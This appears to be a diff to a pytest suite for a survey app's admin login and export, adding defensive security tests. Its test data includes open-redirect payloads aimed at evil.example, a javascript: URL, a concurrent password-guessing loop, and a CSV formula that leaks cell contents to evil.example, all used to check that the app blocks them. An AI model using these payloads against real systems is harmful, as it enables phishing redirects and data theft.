@@ -4,18 +4,26 @@ from __future__ import annotations
 
 import io
 import re
+import urllib.error
+import urllib.parse
+import urllib.request
 import zipfile
+from concurrent.futures import ThreadPoolExecutor
+from datetime import timedelta
 
 import docx
 import pandas as pd
 import pytest
+from respondents import CSRF_PATTERN
+from servers import survey_server
+from sqlalchemy import func, select, update
 
 import analysis
 from analysis import simulate
 from reports import apa
-from survey_app import responses
+from survey_app import responses, storage
 from survey_app.admin import users
-from survey_app.storage import responses_frame
+from survey_app.storage import now, responses_frame
 
 PASSWORD = "correct horse battery"
 PAGES = ["/admin/", "/admin/tokens", "/admin/tokens.csv", "/admin/preview/", "/admin/respondents", "/admin/export"]
@@ -59,17 +67,44 @@ def test_a_wrong_password_is_refused_and_guessing_is_rate_limited(app, client, c
         assert response.status_code == 401 and "User name or password is wrong." in response.get_data(as_text=True)
     response = client.post("/admin/login", data={"csrf_token": token, "username": "ada", "password": PASSWORD})
     assert response.status_code == 429
-    assert "Too many failed logins for this name. Please wait 15 minutes" in response.get_data(as_text=True)
+    assert "Too many failed logins for this name from your address. Please wait 15 minutes" in response.get_data(True)
     assert client.get("/admin/").status_code == 302
 
 
-def test_login_goes_back_to_the_page_asked_for_but_never_off_site(app, client, csrf):
+def log_in(client, csrf, query: str = ""):
+    """Post a correct login to ``/admin/login<query>`` and return the response."""
+    data = {"csrf_token": csrf(client, "/admin/login"), "username": "ada", "password": PASSWORD}
+    return client.post(f"/admin/login{query}", data=data)
+
+
+@pytest.mark.parametrize(
+    ("query", "location"),
+    [
+        ("?next=/admin/tokens", "/admin/tokens"),
+        ("?next=%2Fadmin%2F%3Fdata%3Dall", "/admin/?data=all"),
+        ("?next=%2Fadmin%2Ftokens%0A", "/admin/tokens"),  # a browser drops the line break too
+        ("?next=//evil.example/", "/admin/"),
+        ("?next=%2F%09%2Fevil.example%2F", "/admin/"),  # browsers drop the tab: //evil.example/
+        ("?next=%2F%0D%0A%2Fevil.example%2F", "/admin/"),
+        ("?next=%0A", "/admin/"),
+        ("?next=%2F%5Cevil.example%2F", "/admin/"),  # a backslash is a slash to browsers
+        ("?next=%20%2F%2Fevil.example", "/admin/"),
+        ("?next=https:%2F%2Fevil.example%2F", "/admin/"),
+        ("?next=javascript:alert(1)", "/admin/"),
+        ("?next=", "/admin/"),
+    ],
+)
+def test_login_goes_back_to_the_page_asked_for_but_never_off_site(app, client, csrf, query, location):
     with app.extensions["socialimp"].sessions.begin() as session:
         users.create(session, "ada", PASSWORD)
-    data = {"csrf_token": csrf(client, "/admin/login"), "username": "ada", "password": PASSWORD}
-    assert client.post("/admin/login?next=/admin/tokens", data=data).headers["Location"] == "/admin/tokens"
-    data["csrf_token"] = csrf(client, "/admin/login")
-    assert client.post("/admin/login?next=//evil.example/", data=data).headers["Location"] == "/admin/"
+    response = log_in(client, csrf, query)
+    assert response.status_code == 302 and response.headers["Location"] == location
+
+
+def test_a_nul_in_next_is_a_bad_request_not_a_redirect(app, client, csrf):
+    with app.extensions["socialimp"].sessions.begin() as session:
+        users.create(session, "ada", PASSWORD)
+    assert log_in(client, csrf, "?next=%2F%00%2Fevil.example").status_code == 400
 
 
 def test_admin_accounts_need_a_real_password_and_a_new_name(app):
@@ -86,6 +121,109 @@ def test_admin_accounts_need_a_real_password_and_a_new_name(app):
 def test_logout_ends_the_admin_session(admin, csrf):
     admin.post("/admin/logout", data={"csrf_token": csrf(admin, "/admin/tokens")})
     assert admin.get("/admin/").status_code == 302
+
+
+def test_a_cookie_copied_before_logout_no_longer_opens_the_admin_side(app, admin, csrf):
+    copied = admin.get_cookie("session").value
+    admin.post("/admin/logout", data={"csrf_token": csrf(admin, "/admin/tokens")})
+    thief = app.test_client()
+    thief.set_cookie("session", copied)
+    response = thief.get("/admin/")
+    assert response.status_code == 302 and response.headers["Location"].startswith("/admin/login")
+
+
+def test_a_logout_counts_on_every_worker(app, admin, csrf, tmp_path):
+    """Two apps on one database stand for two workers (or hosts): the session ends on both."""
+    from survey_app import create_app
+
+    other = create_app({**app.config, "INSTANCE_PATH": str(tmp_path / "other")}).test_client()
+    other.set_cookie("session", admin.get_cookie("session").value)
+    assert other.get("/admin/").status_code == 200
+    admin.post("/admin/logout", data={"csrf_token": csrf(admin, "/admin/tokens")})
+    assert other.get("/admin/").status_code == 302
+
+
+def test_an_idle_admin_session_expires(app, admin):
+    from survey_app.models import AdminSession
+
+    assert admin.get("/admin/").status_code == 200
+    idle = timedelta(hours=app.config["ADMIN_IDLE_HOURS"], seconds=1)
+    with app.extensions["socialimp"].sessions.begin() as session:
+        session.execute(update(AdminSession).values(seen_at=now() - idle))
+    response = admin.get("/admin/tokens")
+    assert response.status_code == 302 and response.headers["Location"] == "/admin/login?next=/admin/tokens?"
+    with app.extensions["socialimp"].sessions() as session:
+        assert session.scalar(select(func.count()).select_from(AdminSession)) == 0  # ended for good
+
+
+def test_the_idle_limit_is_set_in_hours():
+    from survey_app import Config
+
+    assert Config.from_env({})["ADMIN_IDLE_HOURS"] == 8
+    assert Config.from_env({"SOCIALIMP_ADMIN_IDLE_HOURS": "0.5"})["ADMIN_IDLE_HOURS"] == 0.5
+    for bad in ("soon", "0", "-1"):
+        with pytest.raises(
+            ValueError, match=f"SOCIALIMP_ADMIN_IDLE_HOURS must be a number of hours above 0, not '{bad}'"
+        ):
+            Config.from_env({"SOCIALIMP_ADMIN_IDLE_HOURS": bad})
+
+
+def test_guessing_from_elsewhere_does_not_lock_the_owner_out(app, client, csrf):
+    with app.extensions["socialimp"].sessions.begin() as session:
+        users.create(session, "ada", PASSWORD)
+    attacker = app.test_client()
+    attacker.environ_base["REMOTE_ADDR"] = "203.0.113.9"
+    token = csrf(attacker, "/admin/login")
+    statuses = [attacker.post("/admin/login", data={"csrf_token": token, "username": "ada", "password": "guess"})
+                .status_code for _ in range(7)]  # fmt: skip
+    assert statuses == [401] * 5 + [429] * 2
+    assert log_in(client, csrf).status_code == 302  # the owner, from another address
+    neighbour = app.test_client()
+    neighbour.environ_base["REMOTE_ADDR"] = "203.0.113.10"  # another address of the same network is elsewhere too
+    assert log_in(neighbour, csrf).status_code == 302
+
+
+def test_one_ipv6_network_is_one_source(app, csrf):
+    with app.extensions["socialimp"].sessions.begin() as session:
+        users.create(session, "ada", PASSWORD)
+    for k in range(6):
+        guesser = app.test_client()
+        guesser.environ_base["REMOTE_ADDR"] = f"2001:db8::{k + 1:x}"  # a /64 holds more addresses than can be tried
+        data = {"csrf_token": csrf(guesser, "/admin/login"), "username": "ada", "password": "guess"}
+        assert guesser.post("/admin/login", data=data).status_code == (401 if k < 5 else 429)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("backend", ["sqlite", "postgres"])
+def test_concurrent_guesses_on_several_workers_get_exactly_the_limit(request, backend, tmp_path):
+    """24 wrong passwords for one name at once, over HTTP against two gunicorn workers: 5 are checked, 19 refused."""
+    database = f"sqlite:///{tmp_path / 'served.db'}" if backend == "sqlite" else request.getfixturevalue("postgres")
+    with survey_server(database, tmp_path, workers=2) as server:
+        engine = storage.connect(database)
+        with storage.sessions(engine).begin() as session:
+            users.create(session, "ada", PASSWORD)
+        engine.dispose()
+        cookie, token = login_page(server.url)
+        body = urllib.parse.urlencode({"csrf_token": token, "username": "ada", "password": "guess"}).encode()
+
+        def guess(_):
+            attempt = urllib.request.Request(f"{server.url}/admin/login", data=body, headers={"Cookie": cookie})
+            try:
+                with urllib.request.urlopen(attempt) as response:
+                    return response.status
+            except urllib.error.HTTPError as refused:
+                return refused.code
+
+        with ThreadPoolExecutor(24) as pool:
+            statuses = list(pool.map(guess, range(24)))
+    assert sorted(statuses) == [401] * 5 + [429] * 19
+
+
+def login_page(url: str) -> tuple[str, str]:
+    """The session cookie and CSRF token a browser gets with the login page of the server at `url`."""
+    with urllib.request.urlopen(f"{url}/admin/login") as page:
+        cookie = page.headers["Set-Cookie"].split(";")[0]
+        return cookie, re.search(CSRF_PATTERN, page.read().decode()).group(1)
 
 
 def test_dashboard_counts_drop_off_and_times_real_respondents(app, admin, ins):
@@ -149,6 +287,7 @@ def test_tokens_are_generated_and_downloaded_as_csv(admin, csrf):
     assert response.status_code == 422 and "Please enter a number from 1 to 10000." in response.get_data(True)
     csv = admin.get("/admin/tokens.csv")
     assert csv.mimetype == "text/csv" and "attachment; filename=tokens_" in csv.headers["Content-Disposition"]
+    assert csv.headers["Cache-Control"] == "no-store"  # invitation links admit whoever holds them
     table = pd.read_csv(io.StringIO(csv.get_data(as_text=True)))
     assert len(table) == 5 and table.link.str.startswith("http://localhost/t/").all()
 
@@ -173,17 +312,18 @@ def test_admin_erases_a_respondent_found_by_receipt_code(app, admin, ins, csrf):
     html = admin.post("/admin/respondents", data={"csrf_token": token, "code": "AAAA-AAAA-AAAA"}).get_data(True)
     assert "No respondent has this receipt code." in html
     html = admin.post("/admin/respondents", data={"csrf_token": token, "code": receipt}).get_data(as_text=True)
-    public_id = responses_frame(app.config["DATABASE_URL"]).respondent_id[0]
-    assert "<h2>Found</h2>" in html and public_id in html
-    assert admin.post(f"/admin/respondents/{public_id}/delete").status_code == 400  # no CSRF token
-    response = admin.post(f"/admin/respondents/{public_id}/delete", data={"csrf_token": token})
+    exported = responses_frame(app.config["DATABASE_URL"]).respondent_id[0]  # the id the admin knows from the data
+    assert "<h2>Found</h2>" in html and exported in html
+    assert admin.post(f"/admin/respondents/{exported}/delete").status_code == 400  # no CSRF token
+    response = admin.post(f"/admin/respondents/{exported}/delete", data={"csrf_token": token})
     assert response.status_code == 302 and responses_frame(app.config["DATABASE_URL"]).empty
-    response = admin.post(f"/admin/respondents/{public_id}/delete", data={"csrf_token": token})
+    response = admin.post(f"/admin/respondents/{exported}/delete", data={"csrf_token": token})
     assert response.status_code == 404
 
 
 @pytest.mark.parametrize("fmt", ["csv", "sav"])
 def test_export_page_downloads_data_and_codebook(app, admin, fmt, csrf):
+    """Downloads of answers are never kept in a browser's or proxy's cache (Cache-Control: no-store)."""
     seed(app, 5)
     token = csrf(admin, "/admin/export")
     response = admin.post("/admin/export", data={"csrf_token": token, "format": fmt, "data": "real"})
@@ -191,8 +331,18 @@ def test_export_page_downloads_data_and_codebook(app, admin, fmt, csrf):
     assert "There are no real respondents to export yet." in admin.get("/admin/export").get_data(as_text=True)
     response = admin.post("/admin/export", data={"csrf_token": token, "format": fmt, "data": "simulated"})
     assert response.mimetype == "application/zip"
+    assert response.headers["Cache-Control"] == "no-store"
     names = zipfile.ZipFile(io.BytesIO(response.data)).namelist()
     assert len(names) == 2 and names[0].endswith(f".{fmt}") and names[1].endswith("_codebook.csv")
+
+
+def test_the_csv_download_neutralises_formulas(app, admin, taker, csrf):
+    taker.complete({"bld_open": '=HYPERLINK("http://evil.example/?leak="&A1,"click")'})
+    response = admin.post("/admin/export", data={"csrf_token": csrf(admin, "/admin/export"), "format": "csv",
+                                                 "data": "real"})  # fmt: skip
+    bundle = zipfile.ZipFile(io.BytesIO(response.data))
+    data = pd.read_csv(io.BytesIO(bundle.read(bundle.namelist()[0])))
+    assert data["bld_open"][0] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
 def notices(client, url: str = "/admin/") -> list[str]:
@@ -224,7 +374,7 @@ def test_download_report_is_the_fit_of_the_chosen_respondents(app, admin, taker,
     seed(app, 150)
     taker.complete()  # one real respondent, done in under a second: a suspected bot, flagged yet analysed
     response = admin.post("/admin/report", data={"csrf_token": csrf(admin, "/admin/"), "data": "all"})
-    assert response.mimetype == "application/zip"
+    assert response.mimetype == "application/zip" and response.headers["Cache-Control"] == "no-store"
     assert "filename=socialimp_report_all_" in response.headers["Content-Disposition"]
     bundle = zipfile.ZipFile(io.BytesIO(response.data))
     names = set(bundle.namelist())
